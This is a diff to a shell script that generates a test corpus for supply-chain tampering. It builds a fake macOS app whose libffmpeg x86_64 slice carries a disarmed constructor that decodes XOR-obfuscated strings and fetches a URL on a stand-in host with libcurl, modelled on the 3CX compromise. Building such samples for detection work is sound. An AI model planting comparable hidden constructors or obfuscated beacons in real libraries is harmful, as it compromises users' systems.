@@ -482,7 +482,174 @@ JS
 	for rel in clean next bad; do npmpack "$w/$rel" "$corpus/$c/$rel"; done
 }
 
+# --- Mach-O ------------------------------------------------------------------------
+# Slices are linked by ld64.lld against text stubs (.tbd) of the system
+# libraries, so no macOS SDK is needed; both architectures get an ad-hoc
+# code signature, as lld gives arm64 by default.
+# llvmtool NAME: NAME, or the newest versioned NAME-N that is installed.
+llvmtool() {
+	local n
+	for n in "$1" "$1"-{20,19,18,17,16,15,14}; do
+		command -v "$n" && return 0
+	done
+	echo "gen.sh: $1 not found (apt-get install lld llvm)" >&2
+	return 1
+}
+
+# tbd OUT INSTALL-NAME SYMBOL...: a text stub of a macOS library.
+tbd() {
+	local out=$1 name=$2
+	shift 2
+	local syms
+	syms=$(printf '%s, ' "$@")
+	cat >"$out" <<TBD
+--- !tapi-tbd
+tbd-version:     4
+targets:         [ x86_64-macos, arm64-macos ]
+install-name:    '$name'
+current-version: 1
+exports:
+  - targets:     [ x86_64-macos, arm64-macos ]
+    symbols:     [ ${syms%, } ]
+...
+TBD
+}
+
+# dylib ARCH OUT INSTALL-NAME SOURCE [clang options] -- [link inputs]
+dylib() {
+	local arch=$1 out=$2 name=$3 src=$4
+	shift 4
+	local cflags=() link=()
+	while [[ $# -gt 0 && $1 != -- ]]; do cflags+=("$1"); shift; done
+	[[ $# -gt 0 ]] && shift
+	link=("$@")
+	clang -target "$arch-apple-macos11" -Os -fno-stack-protector -fno-unwind-tables -fno-asynchronous-unwind-tables \
+		"${cflags[@]}" -c "$src" -o "$out.o"
+	"$(llvmtool ld64.lld)" -arch "$arch" -dylib -platform_version macos 11.0 11.0 -adhoc_codesign -dead_strip \
+		-install_name "$name" -current_version "${DYLIB_VERSION:-1.0}" -o "$out" "$out.o" "${link[@]}"
+}
+
+# xorlit TEXT: TEXT as a C initialiser, every byte XOR 0x7a.
+xorlit() {
+	local s=$1 i out=""
+	for ((i = 0; i < ${#s}; i++)); do
+		printf -v out '%s0x%02x,' "$out" $(($(printf '%d' "'${s:i:1}") ^ 0x7a))
+	done
+	printf '%s0x7a' "$out" # the terminating NUL, encoded
+}
+
+# zipdir DIR OUT: a zip of DIR's contents with fixed times, sorted names and
+# no extra fields, so reruns give the same bytes.
+zipdir() {
+	find "$1" -exec touch -h -d "@$SOURCE_DATE_EPOCH" {} +
+	(cd "$1" && find . -mindepth 1 | LC_ALL=C sort | sed 's|^\./||' | zip -q -X -D -9 "$2" -@)
+}
+
+# =============================================================================
+# 3. 3cx-macos: a universal libffmpeg.dylib whose x86_64 slice alone gains a
+# constructor, libcurl and XOR-encoded strings.
+# =============================================================================
+case_3cx_macos() {
+	local c=3cx-macos w=$work/3cx-macos
+	reset $c
+	mkdir -p "$w"
+	tbd "$w/libSystem.tbd" /usr/lib/libSystem.B.dylib _pthread_create _fopen _fread _fclose _getenv _snprintf dyld_stub_binder
+	tbd "$w/libcurl.tbd" /usr/lib/libcurl.4.dylib _curl_easy_init _curl_easy_setopt _curl_easy_perform _curl_easy_cleanup
+	cat >"$w/ffmpeg.c" <<C
+/* Stand-in for the Electron codec library of a desktop app. The BAD build
+ * adds a constructor that would start a thread decoding XOR-encoded strings
+ * and fetching a URL with libcurl; armed is never set, so it never runs. */
+int av_version_info(void) { return 60; }
+int avcodec_version(void) { return 3871076; }
+#ifndef V100
+int av_log_set_level(int level) { return level & 0; }
+#endif
+#ifdef BAD
+typedef struct FILE FILE;
+typedef unsigned long pthread_t;
+FILE *fopen(const char *, const char *);
+const char *getenv(const char *);
+int snprintf(char *, unsigned long, const char *, ...);
+int pthread_create(pthread_t *, const void *, void *(*)(void *), void *);
+void *curl_easy_init(void);
+int curl_easy_setopt(void *, int, ...);
+int curl_easy_perform(void *);
+void curl_easy_cleanup(void *);
+
+static volatile int armed; /* never set anywhere: the constructor does nothing */
+static const unsigned char enc_url[] = {$(xorlit "https://cdn.update-check.invalid/v1/manifest")};
+static const unsigned char enc_agent[] = {$(xorlit "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36")};
+static const unsigned char enc_store[] = {$(xorlit "%s/Library/Application Support/TinyApp/.main_storage")};
+static const unsigned char enc_home[] = {$(xorlit "HOME")};
+
+static void decode(const unsigned char *in, char *out, unsigned long n) {
+	unsigned long i;
+	for (i = 0; i < n; i++) out[i] = (char)(in[i] ^ 0x7a);
+}
+
+static void *run(void *arg) {
+	char url[sizeof enc_url], agent[sizeof enc_agent], fmt[sizeof enc_store], home[sizeof enc_home], path[512];
+	void *curl;
+	decode(enc_url, url, sizeof url);
+	decode(enc_agent, agent, sizeof agent);
+	decode(enc_store, fmt, sizeof fmt);
+	decode(enc_home, home, sizeof home);
+	snprintf(path, sizeof path, fmt, getenv(home));
+	if (fopen(path, "rb") == 0) return arg;
+	curl = curl_easy_init();
+	curl_easy_setopt(curl, 10002 /* CURLOPT_URL */, url);
+	curl_easy_setopt(curl, 10018 /* CURLOPT_USERAGENT */, agent);
+	curl_easy_perform(curl);
+	curl_easy_cleanup(curl);
+	return arg;
+}
+
+__attribute__((constructor)) static void av_codec_init(void) {
+	pthread_t t;
+	if (armed == 0x3c3c3c3c)
+		pthread_create(&t, 0, run, 0);
+}
+#endif
+C
+	local rel arch
+	for rel in clean next bad; do mkdir -p "$w/$rel/TinyApp.app/Contents/Frameworks"; done
+	# slice REL ARCH VERSION [clang options] [-- extra link inputs]
+	slice() {
+		DYLIB_VERSION=$3 dylib "$2" "$w/$1/libffmpeg-$2.dylib" @rpath/libffmpeg.dylib "$w/ffmpeg.c" "${@:4}"
+	}
+	for arch in x86_64 arm64; do
+		slice clean $arch 6.0.0 -DV100 -- "$w/libSystem.tbd"
+		slice next $arch 6.0.1 -- "$w/libSystem.tbd"
+	done
+	# The compromised build: only the x86_64 slice carries the addition; its
+	# arm64 slice is the benign one.
+	slice bad x86_64 6.0.1 -DBAD -- "$w/libSystem.tbd" "$w/libcurl.tbd"
+	cp "$w/next/libffmpeg-arm64.dylib" "$w/bad/libffmpeg-arm64.dylib"
+	local v
+	for rel in clean next bad; do
+		v=1.0.1
+		[[ $rel == clean ]] && v=1.0.0
+		"$(llvmtool llvm-lipo)" -create "$w/$rel/libffmpeg-x86_64.dylib" "$w/$rel/libffmpeg-arm64.dylib" \
+			-output "$w/$rel/TinyApp.app/Contents/Frameworks/libffmpeg.dylib"
+		cat >"$w/$rel/TinyApp.app/Contents/Info.plist" <<PLIST
+<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
+<plist version="1.0">
+<dict>
+  <key>CFBundleIdentifier</key><string>invalid.tinyapp.desktop</string>
+  <key>CFBundleName</key><string>TinyApp</string>
+  <key>CFBundleShortVersionString</key><string>$v</string>
+  <key>CFBundleVersion</key><string>$v</string>
+</dict>
+</plist>
+PLIST
+		rm -f "$w/$rel"/libffmpeg-*.dylib "$w/$rel"/libffmpeg-*.o
+		zipdir "$w/$rel" "$corpus/$c/$rel/TinyApp-$v-mac.zip"
+	done
+}
+
 want 3cx-windows && case_3cx_windows
 want npm-install-hook && case_npm_install_hook
+want 3cx-macos && case_3cx_macos
 
 ls -lR "$corpus" | grep -v '^total' >"$work/listing" && du -sh --exclude=tools "$corpus"
